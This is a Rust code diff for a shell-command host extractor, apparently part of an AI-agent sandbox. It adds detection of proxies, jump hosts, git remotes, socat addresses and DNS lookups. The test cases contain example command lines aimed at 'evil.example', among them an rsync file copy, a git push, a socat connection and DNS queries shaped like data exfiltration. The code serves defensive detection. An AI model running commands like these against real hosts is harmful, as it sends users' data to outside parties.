@@ -17,6 +17,10 @@ fn short_with_value(program: &str) -> &'static str {
         "ssh" => "BbcDEeFIiJLlmOopQRSWw",
         "scp" | "sftp" => "cFiJloPS",
         "telnet" => "bellnX",
+        "rsync" => "eBfTM",
+        "git" => "Cc",
+        "dig" | "host" | "nslookup" | "ping" | "ping6" | "whois" | "getent" => "bcfikpqtxyWw",
+        "socat" | "openssl" => "d",
         _ => "",
     }
 }
@@ -115,6 +119,31 @@ fn bare_hosts(command: &agentctx_shell::ShellCommand, out: &mut Vec<String>) {
     if short.is_empty() {
         return;
     }
+    // Options whose value is a host: a proxy, a jump host, a forced
+    // address (`curl -x evil:8080`, `ssh -J evil`, `-o ProxyJump=evil`,
+    // `--connect-to ::evil:443`, `openssl s_client -connect evil:443`).
+    let words: Vec<&str> = argv.iter().skip(1).flatten().copied().collect();
+    for (i, word) in words.iter().enumerate() {
+        let next = words.get(i + 1).copied().unwrap_or("");
+        let value = match (program, *word) {
+            ("curl", "-x" | "--proxy" | "--preproxy") | ("ssh" | "scp" | "sftp", "-J") => next,
+            ("curl", w) if w.starts_with("--proxy=") => &w["--proxy=".len()..],
+            ("curl", "--connect-to") => next.rsplit(':').nth(1).unwrap_or(""),
+            ("openssl", "-connect") => next,
+            ("ssh" | "scp" | "sftp", "-o") => next
+                .strip_prefix("ProxyJump=")
+                .or_else(|| next.strip_prefix("proxyjump="))
+                .unwrap_or(""),
+            ("ssh" | "scp" | "sftp", w) => w.strip_prefix("-oProxyJump=").unwrap_or(""),
+            _ => "",
+        };
+        let host = value.rsplit('@').next().unwrap_or(value);
+        let host = host.split("://").last().unwrap_or(host);
+        let (host, port) = split_port(host);
+        if looks_like_host(host) {
+            out.push(format!("tcp://{}:{}", bracket(host), port.unwrap_or("80")));
+        }
+    }
     let mut operands: Vec<&str> = Vec::new();
     let mut skip = false;
     for word in argv.iter().skip(1) {
@@ -166,6 +195,62 @@ fn bare_hosts(command: &agentctx_shell::ShellCommand, out: &mut Vec<String>) {
                     bracket(host),
                     port.map_or("80", |p| p)
                 ));
+            }
+        }
+        // `dig @server name`, `ping host`: the name is asked for.
+        "dig" | "host" | "nslookup" | "ping" | "ping6" | "whois" | "getent" => {
+            for operand in operands
+                .iter()
+                .filter(|o| *o != &"hosts" && *o != &"ahosts")
+            {
+                let name = operand.trim_start_matches('@');
+                if looks_like_host(name) && name.contains('.') {
+                    out.push(format!("dns://{}:53", bracket(name)));
+                }
+            }
+        }
+        // `socat - TCP:host:port`, `OPENSSL:host:port`.
+        "socat" => {
+            for operand in operands {
+                let mut parts = operand.splitn(3, ':');
+                let kind = parts.next().unwrap_or("").to_ascii_uppercase();
+                if matches!(
+                    kind.as_str(),
+                    "TCP"
+                        | "TCP4"
+                        | "TCP6"
+                        | "TCP-CONNECT"
+                        | "UDP"
+                        | "UDP4"
+                        | "UDP6"
+                        | "OPENSSL"
+                        | "SSL"
+                ) && let Some(host) = parts.next().filter(|h| looks_like_host(h))
+                {
+                    let port = parts
+                        .next()
+                        .unwrap_or("80")
+                        .split(',')
+                        .next()
+                        .unwrap_or("80");
+                    out.push(format!("tcp://{}:{port}", bracket(host)));
+                }
+            }
+        }
+        "openssl" => {}
+        // `git push git@host:x.git`, `git clone host:x.git`: scp-like
+        // remotes (URLs are found with the words).
+        "git" => {
+            for operand in operands {
+                if let Some((host, path)) = operand.split_once(':')
+                    && !path.starts_with("//")
+                    && !host.contains('/')
+                {
+                    let host = host.rsplit('@').next().unwrap_or(host);
+                    if looks_like_host(host) && host.contains('.') {
+                        out.push(format!("ssh://{}:22", bracket(host)));
+                    }
+                }
             }
         }
         "ssh" => {
@@ -220,6 +305,22 @@ fn looks_like_host(text: &str) -> bool {
             .is_some_and(|l| l.chars().all(|c| c.is_ascii_alphabetic()))
 }
 
+/// `host:port` apart (an IPv6 literal in brackets keeps its colons).
+fn split_port(text: &str) -> (&str, Option<&str>) {
+    if let Some(rest) = text.strip_prefix('[') {
+        return match rest.split_once(']') {
+            Some((host, tail)) => (host, tail.strip_prefix(':')),
+            None => (text, None),
+        };
+    }
+    match text.rsplit_once(':') {
+        Some((host, port)) if !host.contains(':') && port.parse::<u16>().is_ok() => {
+            (host, Some(port))
+        }
+        _ => (text, None),
+    }
+}
+
 fn bracket(host: &str) -> String {
     if host.contains(':') && !host.starts_with('[') {
         format!("[{host}]")
@@ -269,6 +370,39 @@ mod tests {
             of("python3 -c \"import urllib.request as u; u.urlopen('http://x.test/a')\""),
             ["http://x.test/a"]
         );
+    }
+
+    #[test]
+    fn proxies_jump_hosts_remotes_and_lookups_are_hosts() {
+        for (line, host) in [
+            (
+                "curl -x evil.example:8080 https://github.com/",
+                "evil.example",
+            ),
+            (
+                "curl --connect-to ::evil.example:443 https://github.com/",
+                "evil.example",
+            ),
+            ("ssh -J evil.example git@github.com", "evil.example"),
+            (
+                "ssh -o ProxyJump=evil.example git@github.com",
+                "evil.example",
+            ),
+            ("git push git@evil.example:x.git", "evil.example"),
+            ("rsync f evil.example:/tmp", "evil.example"),
+            ("socat - TCP:evil.example:80", "evil.example"),
+            ("openssl s_client -connect evil.example:443", "evil.example"),
+            ("dig @evil.example secret.evil.example", "evil.example"),
+            ("ping -c1 data.evil.example", "data.evil.example"),
+        ] {
+            assert!(
+                of(line).iter().any(|u| u.contains(host)),
+                "{line}: {:?}",
+                of(line)
+            );
+        }
+        assert!(of("git push origin main").is_empty());
+        assert!(of("git commit -m 'a: b'").is_empty());
     }
 
     #[test]
